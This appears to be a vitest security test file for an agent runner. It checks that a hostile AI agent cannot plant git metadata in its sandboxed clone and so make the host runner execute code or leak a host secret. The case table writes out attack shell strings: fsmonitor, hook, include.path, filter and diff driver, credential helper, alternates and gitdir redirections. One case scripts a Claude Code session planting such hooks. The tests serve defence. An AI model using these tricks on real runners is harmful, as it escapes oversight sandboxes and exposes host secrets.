/**
 * The runner owns the git metadata: whatever a hostile agent writes into its clone's `.git`
 * (config keys that run programs, `commondir`, alternates, `include.path`, attribute filter
 * drivers, hooks, a replaced `.git`) must not make the runner's own git calls — status, add,
 * commit, diff, push — run or read what the agent chose. Each case runs a real sandboxed
 * session (a `command` agent; one case drives the real Claude Code CLI through the scripted
 * model server) that plants the attack and changes README.md, then asserts on the outcome:
 * no marker file written on the host, no host secret in the pull request, and either the
 * change delivered alone or the push refused with a reason that says why.
 */
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { loadRoutine } from "../../src/config/load.ts";
import { openProject, type Project } from "../../src/project.ts";
import { sandboxAvailable } from "../../src/runner/sandbox/availability.ts";
import { runSession } from "../../src/runner/session.ts";
import { resetSandbox } from "../../src/runner/sandbox/wrap.ts";
import type { SessionRow } from "../../src/store/schema.ts";
import { startModelServer } from "../support/model-server.ts";
import {
  branches,
  cleanupTemp,
  gitOut,
  localForgeOf,
  makeRepo,
  tempDir,
  writeRoutine,
} from "../support/project.ts";

afterAll(async () => {
  await resetSandbox();
  cleanupTemp();
});

const sandbox = await sandboxAvailable();

/** A project around a fresh repository with one routine `task` running `command` (sandboxed by default). */
async function projectWith(frontMatter: string): Promise<Project> {
  const repo = await makeRepo({ "README.md": "# demo\n", "src/app.txt": "one\n" });
  writeRoutine(repo, "task", `${frontMatter}\ntimeout: 2m`);
  return openProject(repo);
}

/** Files changed by the session's pull request, or `undefined` when it opened none. */
async function prFiles(project: Project, s: SessionRow): Promise<string[] | undefined> {
  if (!s.pr_number) return undefined;
  const diff = await project.forge.pullRequestDiff(project.repoName, s.pr_number);
  return [...diff.matchAll(/^diff --git a\/(\S+) /gm)].map((m) => m[1]!).sort();
}

/**
 * One attack per row: `plant(marker, secretDir)` is shell run by the agent in its clone
 * before it appends to README.md. `marker` is a host path the runner could write but the
 * sandbox cannot; `secretDir` a host folder with `secret.txt` the agent cannot read.
 * `files`: the pull request's files when the change is delivered (the planted files under
 * `.git/` never are); `refused`: the reason's words when delivery must refuse instead.
 */
const CASES: {
  name: string;
  plant: (marker: string, secretDir: string, secretCommit: string) => string;
  files?: string[];
  refused?: string;
}[] = [
  {
    name: "core.fsmonitor",
    plant: (m) => `git config core.fsmonitor 'sh -c "id; env" > ${m}; true'`,
    files: ["README.md"],
  },
  {
    name: "core.hooksPath and .git/hooks (pre-commit, post-commit, pre-push, reference-transaction)",
    plant: (m) =>
      `mkdir -p .git/evil-hooks && for h in pre-commit post-commit pre-push reference-transaction commit-msg; do ` +
      `printf '#!/bin/sh\\ntouch ${m}\\n' > .git/evil-hooks/$h; chmod +x .git/evil-hooks/$h; cp .git/evil-hooks/$h .git/hooks/$h; done; ` +
      `git config core.hooksPath "$PWD/.git/evil-hooks"`,
    files: ["README.md"],
  },
  {
    name: "commondir pointing at a folder whose config runs a program",
    plant: (m) =>
      `mkdir -p .git/evil-common && printf '[core]\\n\\tfsmonitor = touch ${m}; false\\n\\thooksPath = /nonexistent\\n' > .git/evil-common/config && ` +
      `echo "$PWD/.git/evil-common" > .git/commondir`,
    files: ["README.md"],
  },
  {
    name: "objects/info/alternates pointing at a host repository the agent cannot read",
    // The agent names a commit it cannot read (as if it had learned its id) as its branch tip,
    // writing the ref file itself (its own git would refuse an object it cannot read).
    plant: (_m, secretDir, secretCommit) =>
      `echo ${secretDir}/repo/.git/objects >> .git/objects/info/alternates && ` +
      `echo ${secretCommit} > ".git/$(git symbolic-ref HEAD)"`,
    refused: "is not a commit",
  },
  {
    name: "include.path naming a config that runs programs",
    plant: (m) =>
      `printf '[core]\\n\\tfsmonitor = touch ${m}; false\\n[diff]\\n\\texternal = /bin/sh -c "touch ${m}"\\n' > .git/evil.cfg && ` +
      `git config include.path "$PWD/.git/evil.cfg"`,
    files: ["README.md"],
  },
  {
    name: "a .gitattributes filter driver (clean, smudge, process)",
    plant: (m) =>
      `echo '* filter=evil diff=evil' > .gitattributes && git config filter.evil.clean 'touch ${m}; cat' && ` +
      `git config filter.evil.smudge 'touch ${m}; cat' && git config filter.evil.process 'touch ${m}' && git config filter.evil.required true`,
    files: [".gitattributes", "README.md"],
  },
  {
    name: "diff.external and a textconv driver",
    plant: (m) =>
      `echo '* diff=evil' > .gitattributes && git config diff.external '/bin/sh -c "touch ${m}"' && ` +
      `git config diff.evil.textconv 'touch ${m}; cat' && git config diff.evil.command 'touch ${m}'`,
    files: [".gitattributes", "README.md"],
  },
  {
    name: "core.sshCommand, core.askPass, credential.helper and an ssh remote",
    plant: (m) =>
      `git config core.sshCommand 'touch ${m}; ssh' && git config core.askPass '/bin/sh -c "touch ${m}"' && ` +
      `git config credential.helper '!touch ${m}' && git remote set-url origin ssh://git@example.invalid/x.git && ` +
      `git config remote.origin.pushurl ssh://git@example.invalid/x.git && git config url.ssh://evil.invalid/.insteadOf /`,
    files: ["README.md"],
  },
  {
    name: "core.worktree pointing at a host folder with a secret",
    plant: (_m, secretDir) => `git config core.worktree ${secretDir}`,
    files: ["README.md"],
  },
  {
    name: "an embedded repository whose own config runs a program",
    plant: (m) =>
      `mkdir -p vendored && git -C vendored init -q && git -C vendored config core.fsmonitor 'touch ${m}; false' && ` +
      `echo v > vendored/v.txt && git -C vendored -c user.name=a -c user.email=a@b add v.txt && ` +
      `git -C vendored -c user.name=a -c user.email=a@b commit -qm v`,
  },
  {
    name: ".git replaced by a gitdir file pointing elsewhere",
    plant: (_m, secretDir) => `rm -rf .git && echo "gitdir: ${secretDir}/repo/.git" > .git`,
    refused: "replaced by something other than a folder",
  },
  {
    name: "HEAD moved to another branch built on a fetched ref",
    plant: () => `git checkout -q -b nightshift/task-someoneelse`,
    refused: "delivers only the session's own branch",
  },
];

describe.skipIf(!sandbox.ok)("a hostile agent's git metadata", () => {
  for (const [i, c] of CASES.entries()) {
    it(`does not change what the runner runs or reads: ${c.name}`, async () => {
      const base = tempDir("nightshift-gitsec-");
      const marker = join(base, `marker-${i}`);
      const secretDir = join(base, "secret");
      mkdirSync(join(secretDir, "repo"), { recursive: true });
      writeFileSync(join(secretDir, "secret.txt"), "HOST-SECRET-DO-NOT-LEAK\n");
      await makeRepo({ "secret.txt": "HOST-SECRET-DO-NOT-LEAK\n" }, join(secretDir, "repo"));
      const secretCommit = await gitOut(join(secretDir, "repo"), "rev-parse", "HEAD");
      const script = `set -e; ${c.plant(marker, secretDir, secretCommit)}; echo changed >> README.md; echo planted`;
      const project = await projectWith(`agent: command\ncommand: ${JSON.stringify(script)}`);
      const s = await runSession(project, {
        routine: loadRoutine(project.root, "task"),
        hostEnv: { PATH: process.env.PATH, GITHUB_TOKEN: "ghp_runnerTokenNeverSeen0123456789" },
      });
      const why = `${s.state} ${s.infra_outcome} ${s.task_outcome}: ${s.reason}`;
      expect(existsSync(marker), `marker written on the host (${why})`).toBe(false);
      const bare = localForgeOf(project).barePath(project.repoName);
      if (c.refused) {
        expect(s, why).toMatchObject({ state: "failed", infra_outcome: "ok", task_outcome: "push_refused" });
        expect(s.reason).toContain(c.refused);
        expect(await branches(bare)).toEqual(["main"]);
      } else {
        expect(s, why).toMatchObject({ state: "succeeded", task_outcome: "pr_opened" });
        const files = await prFiles(project, s);
        if (c.files) expect(files).toEqual(c.files);
        const diff = await project.forge.pullRequestDiff(project.repoName, s.pr_number!);
        expect(diff).toContain("+changed");
        expect(diff).not.toContain("HOST-SECRET");
      }
      // The secret commit never reached the forge.
      const has = await gitOut(bare, "cat-file", "-t", secretCommit).catch(() => "missing");
      expect(has).toBe("missing");
      await project.close();
    }, 60_000);
  }

  it("the real Claude Code CLI planting core.fsmonitor and a pre-commit hook runs nothing on the host", async () => {
    const base = tempDir("nightshift-gitsec-claude-");
    const marker = join(base, "marker-claude");
    const model = await startModelServer({
      anthropic: [
        {
          tool: "Bash",
          input: {
            command:
              `git config core.fsmonitor 'touch ${marker}; false' && printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/pre-commit && ` +
              `chmod +x .git/hooks/pre-commit && echo 'claude was here' >> README.md`,
          },
        },
        { text: "Planted and changed README.md." },
      ],
    });
    try {
      const project = await projectWith("agent: claude-code\nallowed_tools: [Bash]");
      const s = await runSession(project, {
        routine: loadRoutine(project.root, "task"),
        hostEnv: {
          PATH: process.env.PATH,
          ANTHROPIC_BASE_URL: model.url,
          ANTHROPIC_API_KEY: "sk-ant-test-dummy",
        },
      });
      const why = `${s.state} ${s.infra_outcome} ${s.task_outcome}: ${s.reason}`;
      expect(s, why).toMatchObject({ state: "succeeded", task_outcome: "pr_opened" });
      expect(existsSync(marker)).toBe(false);
      expect(await prFiles(project, s)).toEqual(["README.md"]);
      await project.close();
    } finally {
      await model.close();
    }
  }, 120_000);
});
